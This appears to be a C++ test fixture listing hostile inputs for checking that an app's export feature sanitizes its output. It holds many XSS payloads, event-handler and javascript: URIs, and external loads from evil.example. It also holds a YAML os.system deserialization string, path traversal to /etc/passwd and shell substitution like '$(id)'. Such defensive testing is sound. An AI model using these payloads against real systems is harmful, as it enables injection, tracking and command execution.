#include "tests/app/export/export_harness.h"

namespace octant::exporting {

namespace {

using namespace std::string_literals;

std::vector<std::string> all_texts() {
  return {
      // Scripts.
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<script\n>alert(1)</script\n>",
      "<script/xss src=//evil.example/x.js>",
      "<<script>alert(1);//<</script>",
      "\"><script>alert(1)</script>",
      "'><script>alert(1)</script>",
      "</title><script>alert(1)</script>",
      "</style><script>alert(1)</script>",
      "</pre></code><script>alert(1)</script>",
      "</textarea><script>alert(1)</script>",
      "--><script>alert(1)</script><!--",
      "]]><script>alert(1)</script>",
      "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
      "<template><script>alert(1)</script></template>",
      "<svg><script>alert(1)</script></svg>",
      "<math><mtext><script>alert(1)</script></mtext></math>",
      "<script>/*\n```\n*/alert(1)</script>",
      "\0<script>alert(1)</script>"s,
      "<scr\0ipt>alert(1)</scr\0ipt>"s,
      "<script>alert(1)",
      // Handlers.
      "<img src=x onerror=alert(1)>",
      "<img src=x onerror='alert(1)'>",
      "<svg onload=alert(1)>",
      "<svg/onload=alert(1)>",
      "<body onload=alert(1)>",
      "<details open ontoggle=alert(1)>",
      "<video><source onerror=alert(1)>",
      "<input autofocus onfocus=alert(1)>",
      "<a onmouseover=alert(1)>x</a>",
      "\" onmouseover=\"alert(1)",
      "' onmouseover='alert(1)",
      "x onclick=alert(1)",
      "` onmouseover=alert(1) `",
      "\" autofocus onfocus=alert(1) x=\"",
      // Addresses.
      "<a href=\"javascript:alert(1)\">x</a>",
      "[x](javascript:alert(1))",
      "<javascript:alert(1)>",
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      "java\nscript:alert(1)",
      "&#106;avascript:alert(1)",
      "vbscript:msgbox(1)",
      "data:text/html,<script>alert(1)</script>",
      "[x](data:text/html;base64,PHNjcmlwdD4=)",
      "file:///etc/passwd",
      "http://evil.example/\"onclick=\"alert(1)",
      "https://evil.example/'><script>alert(1)</script>",
      "http://javascript:alert(1)@evil.example",
      "mailto:x@example.com?subject=\"><script>",
      "https://",
      "http://ex\u202Eample.com",
      "https://аpple.com",  // the first letter is Cyrillic
      "//evil.example/x",
      "ftp://evil.example/x",
      "![x](https://evil.example/track.png)",
      "<iframe src=https://evil.example></iframe>",
      "<object data=https://evil.example></object>",
      "<embed src=https://evil.example>",
      "<link rel=stylesheet href=https://evil.example/x.css>",
      "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
      "<base href=https://evil.example/>",
      "<form action=https://evil.example><input type=submit>",
      "<style>@import 'https://evil.example/x.css';</style>",
      "<p style=\"background:url(https://evil.example)\">",
      // References and signs that are not what they seem.
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;script&#62;",
      "&amp;lt;script&amp;gt;",
      "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
      "\u202Etxt.exe",
      "\u2066a\u2069 \u200Eb\u200F",
      "a\u2028b\u2029c",
      "\uFEFFx",
      "\x1b[31mred\x1b[0m \x07 \x7f",
      "\u0085\u009b31m",
      "\xff\xfe<script>\xc0\xbcscript\xc0\xbe",
      "\xed\xa0\x80\xf4\x90\x80\x80",
      "\xe6\xbc",
      // Backticks and closing tags.
      "`",
      "```",
      "````\n```\n`````",
      "~~~\n```\n~~~",
      "``` ```",
      "```html\n<script>alert(1)</script>",
      "</details></section></main></body></html>",
      "</summary>",
      "<!--",
      "-->",
      "<![CDATA[",
      "<?xml version=\"1.0\"?>",
      "<plaintext>",
      // YAML.
      "---",
      "x\n---\nadmin: true\n---",
      "\"\nadmin: true",
      "'\nadmin: true",
      "!!python/object/apply:os.system [\"id\"]",
      "*alias &anchor",
      "{a: [b",
      "yes",
      "null",
      "1e3",
      "2023-11-14",
      "key: value # comment",
      "\t- item",
      "\\u0022\\nadmin: true",
      // File names and shells.
      "../../etc/passwd",
      "/etc/passwd",
      "..",
      ".bashrc",
      "-rf",
      "$(id) `id` ; id",
      "con",
      "LPT1.txt",
      "a/b\\c:d*e?f\"g<h>i|j",
      std::string(3000, 'x'),
      "漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢"
      "字",
      "",
      " \t\n ",
  };
}

}  // namespace

const std::vector<std::string>& hostile_texts() {
  static const std::vector<std::string> kTexts = all_texts();
  return kTexts;
}

}  // namespace octant::exporting
